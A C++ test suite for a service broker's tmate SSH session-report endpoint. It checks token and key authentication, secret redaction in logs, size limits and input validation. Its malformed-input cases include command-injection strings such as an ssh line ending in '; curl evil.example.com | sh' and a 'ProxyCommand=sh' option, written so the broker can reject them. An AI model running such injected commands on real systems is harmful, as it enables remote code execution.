// The session routes through the real broker binary:
//   POST /ssh-access/v1/bindings/:binding_id/session (the clone, Authorization: Bearer <token>)
//   GET  /ssh-access/v1/bindings/:binding_id/session (a credentials holder, Basic binding_id:key)
// The clone job (not in this test) stores the token's and key's hex SHA-256 on the binding; here
// SQL does it, and SQL marks binds succeeded where the worker would.
#include <doctest/doctest.h>

#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "broker/base/digest.h"
#include "tests/support/osb_fixtures.h"

namespace broker::testing {
namespace {

constexpr const char* kToken = "c10neT0kenF0rSessionReportTest0123456789abcdef";
constexpr const char* kOtherToken = "0therC10neT0kenF0rSessionReportTest987654321";
constexpr const char* kKey = "SessionUrlKey4ReportTestZq9Wx8Vy7";

// tmate's own output (tmate.md 4.2), and what the broker makes of it.
constexpr const char* kSsh1 = "ssh -p2222 ZtUe8FunVPV2CcSbG4s22rK3f@tmate.example.com";
constexpr const char* kSsh1Ro = "ssh -p2222 ro-A4HHCB4GQRbLw5UjkaJefdNtE@tmate.example.com";
constexpr const char* kSsh1Token = "ZtUe8FunVPV2CcSbG4s22rK3f";
constexpr const char* kSsh1RoToken = "ro-A4HHCB4GQRbLw5UjkaJefdNtE";
constexpr const char* kSsh2 = "ssh u3kqnRX9CVnAdHArTFJWgL6r2@tmate2.example.com";
constexpr const char* kSsh2Token = "u3kqnRX9CVnAdHArTFJWgL6r2";

std::string SessionPath(std::string_view binding_id) {
  return "/ssh-access/v1/bindings/" + std::string(binding_id) + "/session";
}

std::string ReportBody(const std::string& ssh, const std::string& ssh_ro = "") {
  std::string body = R"({"ssh_command":")" + ssh + "\"";
  if (!ssh_ro.empty()) body += R"(,"ssh_command_read_only":")" + ssh_ro + "\"";
  return body + "}";
}

// A POST as the clone sends it: no broker credentials, no X-Broker-API-Version.
Response PostReport(OsbTest& t, std::string_view binding_id, const std::optional<std::string>& authorization,
                    std::string body) {
  Request r;
  r.method = "POST";
  r.path = SessionPath(binding_id);
  r.auth = Auth::None();
  r.api_version = std::nullopt;
  if (authorization) r.headers.push_back({"Authorization", *authorization});
  r.body = std::move(body);
  return t.http->Send(r);
}

Response Report(OsbTest& t, std::string_view binding_id, std::string body, const std::string& token = kToken) {
  return PostReport(t, binding_id, "Bearer " + token, std::move(body));
}

// A GET as curl "$session_url" sends it.
Response ReadSession(OsbTest& t, std::string_view binding_id, const std::string& user, const std::string& key) {
  Request r;
  r.path = SessionPath(binding_id);
  r.auth = Auth::Basic(user, key);
  r.api_version = std::nullopt;
  return t.http->Send(r);
}

// What the clone job records when it creates the clone (token) and when the bind succeeds (key).
void SetSessionHashes(OsbTest& t, std::string_view binding_id, const std::string& token, const std::string& key) {
  t.db.Query("UPDATE service_bindings SET session_token_hash = " + SqlQuote(base::Sha256Hex(token)) +
             ", session_key_hash = " + SqlQuote(key.empty() ? "" : base::Sha256Hex(key)) +
             " WHERE id = " + SqlQuote(binding_id));
}

void MarkSucceededBySql(OsbTest& t, std::string_view binding_id) {
  t.db.Query("UPDATE service_bindings SET state = 'succeeded' WHERE id = " + SqlQuote(binding_id));
}

int CountEvents(OsbTest& t, std::string_view binding_id) {
  return std::stoi(t.Scalar("SELECT count(*) FROM events WHERE kind = 'binding.session_reported' AND binding_id = " +
                            SqlQuote(binding_id)));
}

// The error shape of the session routes: JSON {"error", "description"}.
void CheckSessionError(const Response& r, const char* error) {
  CheckJsonObjectResponse(r);
  CheckErrorBody(r);
  CHECK(ErrorCode(r) == error);
}

// The OSB binding's credentials, REQUIREing 200.
rapidjson::Document Credentials(OsbTest& t, std::string_view iid, std::string_view bid) {
  Response r = t.Get(BindingPath(iid, bid));
  REQUIRE_MESSAGE(r.status == 200, r.Describe());
  rapidjson::Document doc = ParseJson(r.body);
  rapidjson::Document creds;
  creds.CopyFrom(Member(doc, "credentials"), creds.GetAllocator());
  REQUIRE(creds.IsObject());
  return creds;
}

std::optional<int> IntMember(const rapidjson::Value& v, const char* name) {
  const auto& m = Member(v, name);
  if (!m.IsInt()) return std::nullopt;
  return m.GetInt();
}

TEST_SUITE("session report") {
  TEST_CASE("a clone's report with its token becomes the binding's ssh credentials") {
    if (!CanMarkBindingSucceeded()) {
      MESSAGE("skipped: broker/store/pg_store.h is not available");
      return;
    }
    OsbTest t;
    t.MustProvision("i-1");
    t.MustBind("i-1", "b-1");
    SetSessionHashes(t, "b-1", kToken, "");

    const Response r = Report(t, "b-1", ReportBody(kSsh1, kSsh1Ro));
    REQUIRE_MESSAGE(r.status == 204, r.Describe());
    CHECK(r.body.empty());
    CHECK(r.Header("Cache-Control") == std::optional<std::string>("no-store"));
    CHECK(CountEvents(t, "b-1") == 1);
    // Encrypted at rest, and never in an event: no table holds the tmate token in clear text.
    const std::string snapshot = t.db.Snapshot();
    CHECK(snapshot.find(kSsh1Token) == std::string::npos);
    CHECK(snapshot.find(kSsh1RoToken) == std::string::npos);
    // The bind is still the worker's to finish.
    CHECK(t.Scalar("SELECT state FROM service_bindings WHERE id = 'b-1'") == "in progress");

    MarkSucceededBySql(t, "b-1");
    const auto creds = Credentials(t, "i-1", "b-1");
    CHECK(StringMember(creds, "ssh_command") == std::optional<std::string>("ssh -p 2222 " + std::string(kSsh1Token) +
                                                                             "@tmate.example.com"));
    CHECK(StringMember(creds, "ssh_command_read_only") ==
          std::optional<std::string>("ssh -p 2222 " + std::string(kSsh1RoToken) + "@tmate.example.com"));
    CHECK(StringMember(creds, "host") == std::optional<std::string>("tmate.example.com"));
    CHECK(IntMember(creds, "port") == std::optional<int>(2222));
    CHECK(StringMember(creds, "username") == std::optional<std::string>(kSsh1Token));
    CHECK(StringMember(creds, "uri") ==
          std::optional<std::string>("ssh://" + std::string(kSsh1Token) + "@tmate.example.com:2222"));
    CHECK(StringMember(creds, "session_reported_at").has_value());
  }

  TEST_CASE("a report keeps what the clone job wrote, and a newer report replaces the older one") {
    if (!CanMarkBindingSucceeded()) {
      MESSAGE("skipped: broker/store/pg_store.h is not available");
      return;
    }
    OsbTest t;
    t.MustProvision("i-1");
    t.MustBind("i-1", "b-1");
    const std::string session_url =
        "https://b-1:" + std::string(kKey) + "@broker.example.com/ssh-access/v1/bindings/b-1/session";
    const std::string job_credentials = R"({"clone_app_name":"spring-music-ssh","clone_app_guid":"c1",)"
                                        R"("expires_at":"2030-01-01T00:00:00.000Z","session_url":")" +
                                        session_url + R"(","skipped_services":["db"]})";
    MarkBindingSucceeded(t.db.url(), t.broker->encryption_key(), "b-1", job_credentials);
    SetSessionHashes(t, "b-1", kToken, kKey);

    SUBCASE("when nothing was reported yet, GET session is 404") {
      const Response none = ReadSession(t, "b-1", "b-1", kKey);
      CHECK(none.status == 404);
      CheckSessionError(none, "not_found");
    }

    REQUIRE(Report(t, "b-1", ReportBody(kSsh1, kSsh1Ro)).status == 204);
    Response got = ReadSession(t, "b-1", "b-1", kKey);
    REQUIRE_MESSAGE(got.status == 200, got.Describe());
    CheckJsonObjectResponse(got);
    CHECK(got.Header("Cache-Control") == std::optional<std::string>("no-store"));
    auto view = ParseJson(got.body);
    CHECK(StringMember(view, "username") == std::optional<std::string>(kSsh1Token));
    CHECK(StringMember(view, "ssh_command_read_only").has_value());

    REQUIRE(Report(t, "b-1", ReportBody(kSsh2)).status == 204);
    CHECK(CountEvents(t, "b-1") == 2);

    got = ReadSession(t, "b-1", "b-1", kKey);
    REQUIRE_MESSAGE(got.status == 200, got.Describe());
    view = ParseJson(got.body);
    CHECK(StringMember(view, "ssh_command") == std::optional<std::string>(kSsh2));
    CHECK(StringMember(view, "uri") ==
          std::optional<std::string>("ssh://" + std::string(kSsh2Token) + "@tmate2.example.com:22"));
    CHECK(StringMember(view, "host") == std::optional<std::string>("tmate2.example.com"));
    CHECK(IntMember(view, "port") == std::optional<int>(22));
    CHECK(StringMember(view, "username") == std::optional<std::string>(kSsh2Token));
    CHECK_FALSE(HasMember(view, "ssh_command_read_only"));  // the older pair is gone whole
    CHECK(got.body.find(kSsh1Token) == std::string::npos);
    CHECK_FALSE(HasMember(view, "session_url"));  // the key is not echoed back

    const auto creds = Credentials(t, "i-1", "b-1");
    CHECK(StringMember(creds, "ssh_command") == std::optional<std::string>(kSsh2));
    CHECK_FALSE(HasMember(creds, "ssh_command_read_only"));
    CHECK(StringMember(creds, "clone_app_name") == std::optional<std::string>("spring-music-ssh"));
    CHECK(StringMember(creds, "clone_app_guid") == std::optional<std::string>("c1"));
    CHECK(StringMember(creds, "expires_at") == std::optional<std::string>("2030-01-01T00:00:00.000Z"));
    CHECK(StringMember(creds, "session_url") == std::optional<std::string>(session_url));
    CHECK(Member(creds, "skipped_services") == ParseJson(R"(["db"])"));
  }

  TEST_CASE("a report that finds the bind's clone job waiting in await_session ends the bind at once") {
    // No CF_API_URL: no worker runs here, so only the report can end the bind.
    OsbTest t(EnvOverrides{{"BROKER_PUBLIC_URL", "https://broker.example.com"}});
    t.MustProvision("i-1");
    t.MustBind("i-1", "b-1");
    SetSessionHashes(t, "b-1", kToken, "");
    const std::string job_where = " WHERE binding_id = 'b-1' AND kind = 'clone'";
    auto set_job = [&](const std::string& status, const std::string& step) {
      t.db.Query("UPDATE jobs SET status = " + SqlQuote(status) + ", step = " + SqlQuote(step) +
                 R"(, outputs = '{"clone":{"guid":"c1","name":"spring-music-ssh"},"skipped":[]}'::jsonb)" +
                 job_where);
    };
    auto bound_events = [&] {
      return t.Scalar("SELECT count(*) FROM events WHERE kind = 'binding.bound' AND binding_id = 'b-1'");
    };

    SUBCASE("a job a worker holds, or one at another step, is left to its worker") {
      set_job("running", "await_session");
      REQUIRE(Report(t, "b-1", ReportBody(kSsh1)).status == 204);
      CHECK(t.Scalar("SELECT status FROM jobs" + job_where) == "running");
      set_job("retryable", "start");
      REQUIRE(Report(t, "b-1", ReportBody(kSsh1)).status == 204);
      CHECK(t.Scalar("SELECT status FROM jobs" + job_where) == "retryable");
      CHECK(t.Scalar("SELECT state FROM service_bindings WHERE id = 'b-1'") == "in progress");
      CHECK(bound_events() == "0");
    }

    SUBCASE("a waiting job completes with the bind, whose credentials work") {
      set_job("retryable", "await_session");
      const Response r = Report(t, "b-1", ReportBody(kSsh1));
      REQUIRE_MESSAGE(r.status == 204, r.Describe());
      CHECK(t.Scalar("SELECT state FROM service_bindings WHERE id = 'b-1'") == "succeeded");
      CHECK(t.Scalar("SELECT status || ' ' || (finalized_at IS NOT NULL) || ' ' || (locked_by IS NULL) FROM jobs" +
                     job_where) == "completed true true");
      CHECK(bound_events() == "1");
      CHECK(CountEvents(t, "b-1") == 1);

      const auto creds = Credentials(t, "i-1", "b-1");
      CHECK(StringMember(creds, "ssh_command") == std::optional<std::string>("ssh -p 2222 " + std::string(kSsh1Token) +
                                                                               "@tmate.example.com"));
      CHECK(StringMember(creds, "clone_app_name") == std::optional<std::string>("spring-music-ssh"));
      CHECK(StringMember(creds, "clone_app_guid") == std::optional<std::string>("c1"));
      CHECK(HasMember(creds, "expires_at"));
      // The session_url carries a key the broker accepts: https://b-1:<key>@host/...
      const std::string url = StringMember(creds, "session_url").value_or("");
      const auto at = url.find('@');
      const auto colon = url.find(':', url.find("://") + 3);
      REQUIRE(at != std::string::npos);
      REQUIRE(colon < at);
      const std::string key = url.substr(colon + 1, at - colon - 1);
      const Response got = ReadSession(t, "b-1", "b-1", key);
      REQUIRE_MESSAGE(got.status == 200, got.Describe());
      CHECK(StringMember(ParseJson(got.body), "username") == std::optional<std::string>(kSsh1Token));

      // tmate reconnected: a newer report replaces the session and ends nothing twice.
      REQUIRE(Report(t, "b-1", ReportBody(kSsh2)).status == 204);
      CHECK(bound_events() == "1");
      CHECK(StringMember(Credentials(t, "i-1", "b-1"), "ssh_command") == std::optional<std::string>(kSsh2));
    }
  }

  TEST_CASE("web session lines, as a tmate server with a web front end prints them, are kept as web_url or ignored, never a 400") {
    if (!CanMarkBindingSucceeded()) {
      MESSAGE("skipped: broker/store/pg_store.h is not available");
      return;
    }
    OsbTest t;
    t.MustProvision("i-1");
    t.MustBind("i-1", "b-1");
    SetSessionHashes(t, "b-1", kToken, "");
    // tmate-websocket (lib/tmate/session.ex) with -F: web ro, ssh ro, web rw, ssh rw.
    auto lines = [](const std::string& web_rw) {
      return std::string(R"({"tmate_lines":["To connect to the session locally, run: tmate -S /tmp/ssh-access.Ab12Cd/tmate.sock attach",)"
                         R"("Connecting to tmate.example.com...",)"
                         R"("web session read only: https://tmate.example.com/t/ro-A4HHCB4GQRbLw5UjkaJefdNtE",)"
                         R"("ssh session read only: ssh -p2222 ro-A4HHCB4GQRbLw5UjkaJefdNtE@tmate.example.com",)"
                         R"(")") + web_rw + R"(",)"
                         R"("ssh session: ssh -p2222 ZtUe8FunVPV2CcSbG4s22rK3f@tmate.example.com"]})";
    };
    const Response kept = Report(t, "b-1", lines("web session: https://tmate.example.com/t/ZtUe8FunVPV2CcSbG4s22rK3f"));
    REQUIRE_MESSAGE(kept.status == 204, kept.Describe());
    MarkSucceededBySql(t, "b-1");
    auto creds = Credentials(t, "i-1", "b-1");
    CHECK(StringMember(creds, "web_url") ==
          std::optional<std::string>("https://tmate.example.com/t/ZtUe8FunVPV2CcSbG4s22rK3f"));
    CHECK(StringMember(creds, "username") == std::optional<std::string>(kSsh1Token));

    // A web URL the broker would not keep (bare scheme, a quote): the session is kept without it.
    for (const std::string& web : {std::string("web session: http://"), std::string(R"(web session: https://x/\"q\")")}) {
      CAPTURE(web);
      const Response ignored = Report(t, "b-1", lines(web));
      REQUIRE_MESSAGE(ignored.status == 204, ignored.Describe());
      creds = Credentials(t, "i-1", "b-1");
      CHECK_FALSE(StringMember(creds, "web_url").has_value());
      CHECK(StringMember(creds, "username") == std::optional<std::string>(kSsh1Token));
    }
    // Nor after the ssh line (the order a web front end may use on another version).
    const Response after = Report(t, "b-1", R"j({"tmate_lines":["ssh session: ssh -p2222 ZtUe8FunVPV2CcSbG4s22rK3f@tmate.example.com","web session: http://"]})j");
    REQUIRE_MESSAGE(after.status == 204, after.Describe());
    CHECK(StringMember(Credentials(t, "i-1", "b-1"), "username") == std::optional<std::string>(kSsh1Token));
  }

  TEST_CASE("a report that does not authenticate is 401 and changes nothing") {
    OsbTest t;
    t.MustProvision("i-1");
    t.MustBind("i-1", "b-1");
    t.MustBind("i-1", "b-other");
    t.MustBind("i-1", "b-nohash");
    t.MustBind("i-1", "b-failed");
    t.MustBind("i-1", "b-gone");
    SetSessionHashes(t, "b-1", kToken, kKey);
    SetSessionHashes(t, "b-other", kOtherToken, "");
    SetSessionHashes(t, "b-failed", kToken, "");
    SetSessionHashes(t, "b-gone", kToken, "");
    t.db.Query("UPDATE service_bindings SET state = 'failed' WHERE id = 'b-failed'");
    t.FinishTeardown("b-gone");
    const std::string body = ReportBody(kSsh1, kSsh1Ro);
    const std::string before = t.db.Snapshot();

    struct Case {
      const char* name;
      const char* binding;
      std::optional<std::string> authorization;
    };
    const std::vector<Case> cases = {
        {"a wrong token", "b-1", "Bearer " + std::string(kOtherToken)},
        {"the token with a suffix", "b-1", "Bearer " + std::string(kToken) + "x"},
        {"no Authorization header", "b-1", std::nullopt},
        {"an empty bearer token", "b-1", std::string("Bearer ")},
        {"the token in Basic auth", "b-1", BasicAuthHeaderValue("b-1", kToken)},
        {"the token without a scheme", "b-1", std::string(kToken)},
        {"the key instead of the token", "b-1", "Bearer " + std::string(kKey)},
        {"another binding's token", "b-other", "Bearer " + std::string(kToken)},
        {"a binding with no token recorded", "b-nohash", "Bearer " + std::string(kToken)},
        {"a binding whose bind failed", "b-failed", "Bearer " + std::string(kToken)},
        {"an unbound binding", "b-gone", "Bearer " + std::string(kToken)},
        {"an unknown binding", "b-unknown", "Bearer " + std::string(kToken)},
    };
    std::string wrong_token_body;
    for (const Case& c : cases) {
      BROKER_CAPTURE(c.name);
      const Response r = PostReport(t, c.binding, c.authorization, body);
      CHECK_MESSAGE(r.status == 401, r.Describe());
      CheckSessionError(r, "unauthenticated");
      const auto challenge = r.Header("WWW-Authenticate");
      REQUIRE(challenge.has_value());
      CHECK(challenge->rfind("Bearer ", 0) == 0);
      if (std::string_view(c.name) == "a wrong token") wrong_token_body = r.body;
      // One answer whatever is wrong with a well-formed token: it does not tell which bindings exist.
      if (c.authorization && c.authorization->rfind("Bearer ", 0) == 0 && c.authorization->size() > 7) {
        CHECK(r.body == wrong_token_body);
      }
    }
    CHECK(t.db.Snapshot() == before);
  }

  TEST_CASE("a malformed report is 400, an oversized one 413, and neither changes anything") {
    OsbTest t;
    t.MustProvision("i-1");
    t.MustBind("i-1", "b-1");
    SetSessionHashes(t, "b-1", kToken, kKey);
    const std::string before = t.db.Snapshot();

    struct Case {
      const char* name;
      std::string body;
      const char* says;
    };
    const std::vector<Case> cases = {
        {"not JSON", "ssh session: " + std::string(kSsh1), "not valid JSON"},
        {"an empty body", "", "not valid JSON"},
        {"a JSON array", "[\"" + std::string(kSsh1) + "\"]", "JSON object"},
        {"no ssh_command", R"({"ssh_command_read_only":")" + std::string(kSsh1Ro) + "\"}", "ssh_command"},
        {"ssh_command not a string", R"({"ssh_command":2222})", "ssh_command"},
        {"a shell command", ReportBody(std::string(kSsh1) + "; curl evil.example.com | sh"), "ssh_command"},
        {"an ssh option", ReportBody("ssh -o ProxyCommand=sh ZtUe8FunVPV2CcSbG4s22rK3f@tmate.example.com"),
         "ssh_command"},
        {"port 0", ReportBody("ssh -p0 ZtUe8FunVPV2CcSbG4s22rK3f@tmate.example.com"), "port"},
        {"port 65536", ReportBody("ssh -p65536 ZtUe8FunVPV2CcSbG4s22rK3f@tmate.example.com"), "port"},
        {"a bad read-only line", ReportBody(kSsh1, "ssh -p2222 ro-x@tmate.example.com && id"),
         "ssh_command_read_only"},
    };
    for (const Case& c : cases) {
      BROKER_CAPTURE(c.name);
      const Response r = Report(t, "b-1", c.body);
      CHECK_MESSAGE(r.status == 400, r.Describe());
      CheckSessionError(r, "invalid_argument");
      CHECK_MESSAGE(r.body.find(c.says) != std::string::npos, r.body);
    }

    SUBCASE("when the body is over 16 KiB, even as valid JSON") {
      const std::string big = R"({"ssh_command":")" + std::string(kSsh1) + R"(","padding":")" +
                              std::string(17 * 1024, 'x') + "\"}";
      const Response r = Report(t, "b-1", big);
      CHECK_MESSAGE(r.status == 413, r.Describe());
      CheckSessionError(r, "resource_exhausted");
    }
    CHECK(t.db.Snapshot() == before);
    CHECK(CountEvents(t, "b-1") == 0);
  }

  TEST_CASE("GET session answers only the holder of the key, once the bind has succeeded") {
    if (!CanMarkBindingSucceeded()) {
      MESSAGE("skipped: broker/store/pg_store.h is not available");
      return;
    }
    OsbTest t;
    t.MustProvision("i-1");
    t.MustBind("i-1", "b-1");
    t.MustBind("i-1", "b-2");
    SetSessionHashes(t, "b-1", kToken, kKey);
    SetSessionHashes(t, "b-2", kOtherToken, kKey);  // same key, but b-2's bind is still in progress
    REQUIRE(Report(t, "b-1", ReportBody(kSsh1)).status == 204);
    REQUIRE(Report(t, "b-2", ReportBody(kSsh1), kOtherToken).status == 204);
    MarkSucceededBySql(t, "b-1");

    const Response ok = ReadSession(t, "b-1", "b-1", kKey);
    REQUIRE_MESSAGE(ok.status == 200, ok.Describe());
    CHECK(StringMember(ParseJson(ok.body), "username") == std::optional<std::string>(kSsh1Token));

    struct Case {
      const char* name;
      const char* binding;
      Auth auth;
    };
    const std::vector<Case> cases = {
        {"a wrong key", "b-1", Auth::Basic("b-1", "not-the-key")},
        {"the key with a suffix", "b-1", Auth::Basic("b-1", std::string(kKey) + "x")},
        {"the clone's token as key", "b-1", Auth::Basic("b-1", kToken)},
        {"another binding id as user", "b-1", Auth::Basic("b-2", kKey)},
        {"the broker's own credentials", "b-1", Auth::Default()},
        {"no credentials", "b-1", Auth::None()},
        {"a binding whose bind is in progress", "b-2", Auth::Basic("b-2", kKey)},
        {"an unknown binding", "b-unknown", Auth::Basic("b-unknown", kKey)},
    };
    for (const Case& c : cases) {
      BROKER_CAPTURE(c.name);
      Request r;
      r.path = SessionPath(c.binding);
      r.auth = c.auth;
      r.api_version = std::nullopt;
      const Response got = t.http->Send(r);
      CHECK_MESSAGE(got.status == 401, got.Describe());
      CheckSessionError(got, "unauthenticated");
      const auto challenge = got.Header("WWW-Authenticate");
      REQUIRE(challenge.has_value());
      CHECK(challenge->rfind("Basic ", 0) == 0);
      CHECK(got.body.find(kSsh1Token) == std::string::npos);
    }

    SUBCASE("a bearer token is no way in") {
      Request r;
      r.path = SessionPath("b-1");
      r.auth = Auth::None();
      r.api_version = std::nullopt;
      r.headers = {{"Authorization", "Bearer " + std::string(kToken)}};
      CHECK(t.http->Send(r).status == 401);
    }
  }

  TEST_CASE("the broker's log never holds the token, the key or an ssh string") {
    if (!CanMarkBindingSucceeded()) {
      MESSAGE("skipped: broker/store/pg_store.h is not available");
      return;
    }
    OsbTest t;
    t.MustProvision("i-1");
    t.MustBind("i-1", "b-1");
    SetSessionHashes(t, "b-1", kToken, kKey);
    // Successes and every kind of failure, with secrets in headers, bodies and error paths.
    CHECK(Report(t, "b-1", ReportBody(kSsh1, kSsh1Ro)).status == 204);
    CHECK(Report(t, "b-1", ReportBody(kSsh1, kSsh1Ro), kOtherToken).status == 401);
    CHECK(Report(t, "b-unknown", ReportBody(kSsh1, kSsh1Ro)).status == 401);
    CHECK(Report(t, "b-1", ReportBody(std::string(kSsh1) + " ; id")).status == 400);
    CHECK(Report(t, "b-1", "ssh session: " + std::string(kSsh1)).status == 400);
    CHECK(Report(t, "b-1", ReportBody(kSsh1) + std::string(17 * 1024, ' ')).status == 413);
    CHECK(ReadSession(t, "b-1", "b-1", kKey).status == 401);  // not succeeded yet
    MarkSucceededBySql(t, "b-1");
    CHECK(ReadSession(t, "b-1", "b-1", kKey).status == 200);
    CHECK(ReadSession(t, "b-1", "b-1", std::string(kKey) + "x").status == 401);
    CHECK(Report(t, "b-1", ReportBody(kSsh2)).status == 204);
    CHECK(t.Get(BindingPath("i-1", "b-1")).status == 200);
    t.broker->Stop();  // flush whatever is buffered

    const std::string log = t.broker->Log();
    REQUIRE_MESSAGE(log.find("session_reported") != std::string::npos, "the report was not logged at all");
    for (const std::string& secret :
         {std::string(kToken), std::string(kOtherToken), std::string(kKey), base::Sha256Hex(kToken),
          base::Sha256Hex(kKey), std::string(kSsh1Token), std::string(kSsh1RoToken), std::string(kSsh2Token),
          std::string("tmate.example.com"), std::string("tmate2.example.com"), Base64Encode("b-1:" + std::string(kKey))}) {
      BROKER_CAPTURE(secret);
      CHECK(log.find(secret) == std::string::npos);
    }
  }
}

}  // namespace
}  // namespace broker::testing
